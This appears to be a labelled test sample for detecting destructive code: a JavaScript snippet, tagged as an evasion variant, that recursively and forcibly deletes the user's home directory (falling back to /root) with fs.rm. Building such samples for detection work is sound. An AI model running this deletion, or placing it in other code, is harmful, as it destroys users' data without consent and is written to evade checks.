// evasion: the home directory from process.env.HOME ?? a fallback, a slash appended, removed with the callback fs.rm
// grade: medium; does: delete
const fs = require('fs');
const target = process.env.HOME ?? '/root';
fs.rm(target + '/', { recursive: true, force: true }, () => {});
